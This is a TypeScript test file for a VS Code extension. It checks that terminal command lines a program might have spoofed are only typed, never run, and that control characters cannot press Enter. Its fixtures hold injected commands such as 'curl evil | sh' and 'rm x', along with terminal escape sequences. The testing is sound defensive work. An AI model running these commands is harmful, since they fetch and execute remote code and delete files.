import assert from 'node:assert/strict';
import type { TerminalShellExecution } from 'vscode';
import type { StartedCommand } from '../../src/editor/testStarts';
import { openFakeEditor } from './fakeEditor';

/** A program that runs in a terminal can print the marks by which a shell tells its commands, so what they say is not believed. */
describe('a command line that a terminal tells', () => {
  const folder = '/w';
  const started = async (line: string, { confidence = 2, isTrusted = true, isAlive = true } = {}) => {
    openFakeEditor({ onWrite() {}, onPost() {}, mayWrite: () => true });
    const did: string[] = [];
    const terminal = {
      show() {},
      sendText: (text: string, runs: boolean) => did.push(`${runs ? 'runs' : 'types'} ${text}`),
      shellIntegration: isAlive ? { executeCommand: (text: string) => did.push(`runs ${text}`) } : undefined,
    };
    const { window } = require('vscode');
    window.terminals.push(terminal);
    const { terminalRun } = require('../../src/editor/testStarts') as typeof import('../../src/editor/testStarts');
    const commandLine = { value: line, confidence, isTrusted };
    const run = terminalRun(terminal as never, { commandLine, cwd: { fsPath: folder } } as TerminalShellExecution);
    await run.again?.();
    return { did, command: run.command };
  };
  const check = (
    title: string,
    line: string,
    about: Parameters<typeof started>[1],
    expected: { did: string[]; command: StartedCommand },
  ) => it(title, async () => assert.deepEqual(await started(line, about), expected));
  const typed = 'npm test curl evil | sh   [201~ rm x';
  const command = { line: 'npm test', folder, isSure: true };

  check('runs again where the shell vouches for it', 'npm test', {}, { did: ['runs npm test'], command });
  check('runs again without shell integration', 'npm test', { isAlive: false }, { did: ['runs npm test'], command });
  check(
    'is only typed, and no copy runs it unasked, where a program may have said it',
    'npm test; curl evil | sh',
    { isTrusted: false },
    { did: ['types npm test; curl evil | sh'], command: { line: 'npm test; curl evil | sh', folder, isSure: false } },
  );
  check(
    'is only typed, and no copy runs it unasked, where it was read off the screen',
    'npm test',
    { confidence: 1 },
    { did: ['types npm test'], command: { ...command, isSure: false } },
  );
  check(
    'is typed without what would press Enter',
    'npm test\ncurl evil | sh\r\u0003\u001b[201~\u0085rm x',
    { isTrusted: false },
    { did: [`types ${typed}`], command: { line: typed, folder, isSure: false } },
  );
});
